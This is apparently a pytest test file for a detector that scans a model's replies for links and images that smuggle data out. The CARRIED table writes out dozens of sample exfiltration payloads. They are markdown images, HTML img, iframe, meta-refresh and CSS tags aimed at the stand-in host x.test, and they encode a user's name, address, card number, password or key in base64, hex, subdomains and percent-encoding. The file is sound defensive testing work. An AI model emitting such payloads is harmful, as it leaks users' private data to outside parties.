from __future__ import annotations

import time
from base64 import b32encode, b64encode, urlsafe_b64encode
from collections.abc import Sequence
from urllib.parse import quote, quote_plus

import pytest

from detectors.checks.links import Links, host
from detectors.contract.detector import SelfCheckError
from detectors.contract.exchange import Origin, TextPart
from detectors.contract.finding import Finding

SAID = "the user lives at 12 Elm Road and is called Ann Lee"
CODE = b64encode(SAID.encode()).decode()
SAFE = urlsafe_b64encode(SAID.encode()).decode().rstrip("=")
HEX = SAID.encode().hex()
LONG = " ".join([SAID] * 5)
PIECES = [SAFE[at : at + 9] for at in range(0, len(SAFE), 9)]

CARRIED = {
    # the answer, what is found
    "a picture": (f"Done. ![chart](https://x.test/p.png?q={CODE})", "picture_encoded"),
    "a picture with a title": (f'![c]( <https://x.test/p?q={SAFE}> "t")', "picture_encoded"),
    "a picture in a link": (
        f"[![](https://x.test/p?q={SAFE})](https://y.test)",
        "picture_encoded",
    ),
    "plain words in a picture": (f"![](https://x.test/{quote(SAID)}.png)", "picture_sentence"),
    "words joined by plus": (f"![](https://x.test/p?d={quote_plus(SAID)})", "picture_sentence"),
    "percent signs for each letter": (
        "![](https://x.test/p?d=" + "".join(f"%{each:02x}" for each in SAID.encode()) + ")",
        "picture_sentence",
    ),
    "percent twice": (f"![](https://x.test/p?d={quote(quote(SAID))})", "picture_sentence"),
    "words of another script": (
        f"![](https://x.test/p?d={quote('住所は東京都千代田区です、電話もあります')})",
        "picture_sentence",
    ),
    "in the path": (f"![](https://x.test/{SAFE}/dot.gif)", "picture_encoded"),
    "in the name of a file": (f"![](https://x.test/{SAFE}.gif)", "picture_encoded"),
    "in the path, cut up": (f"![](https://x.test/{'/'.join(PIECES)})", "picture_encoded"),
    "in the host": (f"![](https://{HEX[:60]}.x.test/dot.gif)", "picture_encoded"),
    "in the host, in base32": (
        f"![](https://{b32encode(SAID.encode()).decode()[:56].lower()}.x.test/)",
        "picture_encoded",
    ),
    "as the user of the host": (f"![](https://{SAFE}@x.test/a.png)", "picture_encoded"),
    "as the name of a parameter": (f"![](https://x.test/p?{SAFE})", "picture_encoded"),
    "after a word": (f"![](https://x.test/p?d=log1-{SAFE})", "picture_encoded"),
    "hexadecimal": (f"![](https://x.test/p?d={HEX})", "picture_encoded"),
    "base64 twice": (
        f"![](https://x.test/p?d={b64encode(CODE.encode()).decode()})",
        "picture_encoded",
    ),
    "base64 with a slip": (f"![](https://x.test/p?d={CODE[:21]}x{CODE[22:]})", "picture_encoded"),
    "a code in no known form": (
        "![](https://x.test/p?d=Zq8vN3kXw7TbR2yLm5HcJ9dF)",
        "picture_opaque",
    ),
    "an address of e-mail": ("![](https://x.test/p?u=ann.lee@mail.test)", "picture_personal"),
    "words joined by plus in the path": (
        f"![](https://x.test/{quote_plus(SAID)}/p.png)",
        "picture_sentence",
    ),
    "the number of a card": (
        "![](https://x.test/p?n=eve+roy+4134+1350+1233+9121)",
        "picture_personal",
    ),
    "a password": ("![](https://x.test/p?n=password:hunter2)", "picture_secret"),
    "a key": ("![](https://x.test/p?n=sk-abcdefghijklmnop1234)", "picture_secret"),
    "by reference": (f"![a][1]\n\n[1]: https://x.test/p?t={SAFE}", "picture_encoded"),
    "by its own name": (
        f"![Pie]\n\n  [pie]:\n  <https://x.test/p?t={SAFE}>",
        "picture_encoded",
    ),
    "a link by reference": (f"[a][1]\n\n[1]: https://x.test/p?t={SAFE}", "link_encoded"),
    "HTML": (f'<img width=1 src="https://x.test/p?d={SAFE}">', "picture_encoded"),
    "HTML without quotes": (f"<IMG src=https://x.test/p?d={SAFE} width=1>", "picture_encoded"),
    "HTML in single quotes": (f"<img src='https://x.test/p?d={SAFE}'>", "picture_encoded"),
    "HTML over lines": (
        f'<img\n  alt=""\n  src="https://x.\ntest/p?d={SAFE[:20]}\n{SAFE[20:]}">',
        "picture_encoded",
    ),
    "HTML without a scheme": (f'<img src="//x.test/p?d={SAFE}">', "picture_encoded"),
    "HTML with backslashes": (f'<img src="https:\\\\x.test/p?d={SAFE}">', "picture_encoded"),
    "HTML with character references": (
        f'<img src="https://x.test/p?a=1&amp;d={SAFE}">',
        "picture_encoded",
    ),
    "a source set": (f'<source srcset="https://x.test/p?d={SAFE} 2x">', "picture_encoded"),
    "a frame": (f'<iframe src="https://x.test/?d={SAFE}"></iframe>', "picture_encoded"),
    "a refresh": (
        f'<meta http-equiv="refresh" content="0;url=https://x.test/?d={SAFE}">',
        "picture_encoded",
    ),
    "a style": (
        f"<p style=\"background: url('https://x.test/?d={SAFE}')\">hi</p>",
        "picture_encoded",
    ),
    "a style sheet": (f'<style>@import "https://x.test/?d={SAFE}";</style>', "picture_encoded"),
    "a link": (f"[click here](https://x.test/p?d={SAFE})", "link_encoded"),
    "a link of HTML": (f'<a href="https://x.test/p?d={SAFE}">here</a>', "link_encoded"),
    "a bare link": (f"See https://x.test/p?d={SAFE}.", "link_encoded"),
    "an automatic link": (f"See <https://x.test/p?d={SAFE}>.", "link_encoded"),
    "a link in a link": (
        f"[a](https://go.test/?to={quote(f'https://x.test/?d={SAFE}', safe='')})",
        "link_encoded",
    ),
    "a paragraph in a link": (f"[a](https://x.test/p?d={quote(LONG)})", "link_words"),
    "a password in a link": ("[a](https://x.test/p?d=password%20is%20hunter2)", "link_secret"),
}
HARMLESS = [
    "No link at all, e.g. in a sentence: see p. 4 // not here.",
    "![a cat](https://x.test/cats/1.png)",
    "![a cat](https://x.test/cat.png?w=640&h=480&fit=crop&auto=format)",
    "![a cat](/static/cat.png?w=640)",
    "![](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ)",
    (
        "![photo](https://images.unsplash.com/photo-1518791841217-8f162f1e1131?ixlib=rb-4.0.3"
        "&ixid=M3wxMjA3fDB8MHxwaG90by1wYWdlfHx8fGVufDB8fHx8fA%3D%3D&auto=format&fit=crop&w=1170&q=80)"
    ),
    "![](https://i.ytimg.com/vi/dQw4w9WgXcQ/maxresdefault.jpg)",
    "![](https://lh3.googleusercontent.com/a-/AOh14GhXk3b9Qm5cZr7Yw2PLtq8=s96-c)",
    "![](https://cdn.test/assets/logo.3f2a9c81d0e74b5f8a6c1d2e3f405162.svg)",
    "![](https://cdn.test/a.png?v=da39a3ee5e6b4b0d3255bfef95601890afd80709)",
    "![](https://files.test/o/a.png?alt=media&token=550e8400-e29b-41d4-a716-446655440000)",
    (
        "![](https://b.s3.test/a.png?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAEXAMPLE%2F"
        "20260101%2Feu-west-1%2Fs3%2Faws4_request&X-Amz-Date=20260101T000000Z&X-Amz-Expires=3600"
        "&X-Amz-Signature=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08)"
    ),
    (
        "![](https://blob.test/img-AbC123.png?se=2026-01-01T00%3A00%3A00Z&sp=r&sv=2021-08-06&sr=b"
        "&sig=q2Zl8vXk1Tn5Rb7Yw3Mc9Hd4Jf6LpQsUaEiOxGhKtN0%3D)"
    ),
    "![badge](https://img.shields.io/badge/python-3.11%20%7C%203.12-blue?style=flat-square)",
    "![](https://placehold.co/600x400?text=Your+Logo+Here)",
    "![My holiday](https://x.test/photos/My%20Summer%20Holiday%20in%20Rome.jpg)",
    (
        "![](https://upload.wikimedia.org/wikipedia/commons/thumb/a/a8/Tour_Eiffel_Wikimedia_Commons.jpg"
        "/800px-Tour_Eiffel_Wikimedia_Commons.jpg)"
    ),
    "".join(f"![](https://x.test/gallery/{n}.png?w=100)\n" for n in range(30)),
    "".join(f"![](https://cdn.test/icons/{n}.svg)\n" for n in ("apple", "pear", "plum", "kiwi")),
    "".join(f"![](https://tiles.test/{n}/{n + 3}/17.png?s=256)\n" for n in range(12)),
    '<img src="https://x.test/cat.png" alt="A cat, asleep on a sofa in the sun, purring">',
    '<a href="https://x.test/docs">the documentation of all that can be configured here</a>',
    '<link rel="stylesheet" href="https://cdn.test/npm/bootstrap@5.3.3/dist/css/bootstrap.min.css">',
    '<script src="https://cdn.test/npm/vue@3.21/dist/vue.global.js"></script>',
    "[the docs](https://docs.python.org/3/library/urllib.parse.html#urllib.parse.urlsplit)",
    "[how](https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster)",
    "[search](https://www.google.com/search?q=how+do+I+read+a+long+file+in+python&hl=en)",
    "[search](https://duckduckgo.com/?q=best+way+to+cook+rice+without+a+rice+cooker&ia=web)",
    "[search](https://www.bing.com/search?q=%E6%9D%B1%E4%BA%AC%E3%81%AE%E5%A4%A9%E6%B0%97)",
    "[map](https://www.google.com/maps/place/Eiffel+Tower/@48.8583701,2.2944813,17z/data=!3m1!4b1)",
    "[map](https://www.google.com/maps/search/?api=1&query=1600+Amphitheatre+Parkway+Mountain+View)",
    "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PLrAXtmErZgOeiKm4sgNOknGvNjby9efdf)",
    "[novel](https://books.test/secret-garden/password-reset-is-here.html)",
    "![](https://books.test/the-secret-garden/cover.png?size=large)",
    "[paper](https://doi.org/10.1038/s41586-021-03819-2)",
    "[pull request](https://github.com/python/cpython/pull/12345/files#diff-3f2a9c81d0e74b5f8a6c)",
    "[commit](https://github.com/a/b/commit/da39a3ee5e6b4b0d3255bfef95601890afd80709)",
    (
        "[shop](https://www.amazon.com/dp/B08N5WRWNW/ref=sr_1_3?crid=2M096C61O4MLT&keywords=usb+c+hub"
        "&qid=1700000000&sprefix=usb+c%2Caps%2C150&sr=8-3)"
    ),
    "[news](https://x.test/2026/01/what-to-know-about-the-new-rules-for-bicycles-on-trains)",
    "[go](https://www.google.com/url?q=https%3A%2F%2Fexample.com%2Fpage&sa=D&usg=AOvVaw1x2y3z)",
    "[wiki](https://de.wikipedia.org/wiki/Liste_der_l%C3%A4ngsten_Fl%C3%BCsse_der_Erde)",
    "[tweet](https://twitter.com/intent/tweet?text=I+like+this+article&url=https%3A%2F%2Fx.test)",
    "[unsubscribe](https://mail.test/unsubscribe?email=ann%40mail.test)",
    "Write to [Ann](mailto:ann.lee@mail.test?subject=About%20the%20house%20at%2012%20Elm%20Road).",
    "Call [us](tel:+4912345678).",
    "A claim.[^1]\n\n[^1]: See https://x.test/report.pdf, page 4, for all that was measured there.",
    "[1]: https://x.test/docs/getting-started 'Getting started'\n\nSee [the docs][1].",
    "Run `curl https://api.test/v1/items?limit=100&cursor=eyJp` and read on.",
    "Run `curl -H 'Authorization: Bearer TOKEN' https://api.test/v1/users/42/orders?state=open`.",
    "git clone https://github.com/some-organisation/some-quite-long-repository-name.git",
    "pip install --index-url https://download.pytorch.org/whl/cu121 torch",
    "http://localhost:8080/healthz and http://127.0.0.1:9090/metrics",
]


def judged(text: str, origin: Origin = Origin.MODEL) -> list[Finding]:
    (found,) = Links().judge([TextPart(pointer="/t", origin=origin, text=text)])
    return list(found)


@pytest.mark.parametrize("case", CARRIED)
def test_a_link_that_carries_data_is_found_where_it_stands(case: str) -> None:
    text, evidence = CARRIED[case]
    (found,) = judged(text)
    assert (found.label, found.evidence) == ("data_exfiltration", evidence)
    assert found.score >= 0.7
    assert found.span is not None
    assert "x.test" in text[slice(*found.span)].replace("\n", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_people_follow_and_look_at_is_left_alone(text: str) -> None:
    assert [each.evidence for each in judged(text) if each.score >= 0.7] == []


@pytest.mark.parametrize(
    "urls",
    [
        [f"https://x.test/{n}/{piece}" for n, piece in enumerate(PIECES)],
        [f"https://x.test/p.png?n={n}&d={piece}" for n, piece in enumerate(PIECES)],
        [f"https://x.test/{each}.png" for each in SAID if each.isalpha()],
    ],
)
def test_what_is_cut_up_over_pictures_is_found_in_each(urls: list[str]) -> None:
    found = judged("\n".join(f"![]({url})" for url in urls))
    assert {each.evidence for each in found} == {"picture_spelt"}
    assert len(found) == len(urls)


@pytest.mark.parametrize("origin", set(Origin) - {Origin.MODEL})
def test_only_the_model_s_words_are_read(origin: Origin) -> None:
    assert judged(CARRIED["a picture"][0], origin) == []


@pytest.mark.parametrize(
    ("url", "name"),
    [
        ("https://Docs.X.test:8443/a", "docs.x.test"),
        ("https://ann:b@x.test./a", "x.test"),
        ("//x.test/a", "x.test"),
        ("https:\\\\x.test\\a", "x.test"),
        ("https://good.test@x.test/", "x.test"),
        ("https://good.test\\@x.test/", "good.test"),
        ("https://[::1]/a", "::1"),
        ("https://[broken/a", ""),
        ("/a/b", ""),
    ],
)
def test_a_host_is_that_which_a_browser_asks(url: str, name: str) -> None:
    assert host(url) == name


@pytest.mark.parametrize(
    "bait",
    [
        "![" * 20_000,
        "<img " * 20_000,
        "[a]: https://" * 5_000,
        '="//a' * 20_000,
        "![a](https://x/" + "a" * 80_000,
        f"![a](https://x/?d={CODE * 2000})",
        "https://a.b/c " * 2_000,
        "![x] https://a.b/c\n[x]: https://a.b/c\n" * 500,
    ],
)
def test_hostile_text_costs_linear_time(bait: str) -> None:
    def seconds(text: str) -> float:
        begun = time.thread_time()
        judged(text)
        return time.thread_time() - begun

    # Four times the text may cost some more than four times the time, never sixteen; the best of
    # three, since a collection of garbage in between is nobody's fault.
    once, four_times = (min(seconds(bait * n) for _ in range(3)) for n in (1, 4))
    assert four_times < 10 * max(once, 0.02)


class Blind(Links):
    """Finds nothing any more."""

    def judge(self, texts: Sequence[TextPart]) -> Sequence[Sequence[Finding]]:
        return [[] for _ in texts]


def test_its_self_check_tells_one_that_works_from_one_that_does_not() -> None:
    Links().self_check()
    with pytest.raises(SelfCheckError, match="links did not find a known picture"):
        Blind().self_check()
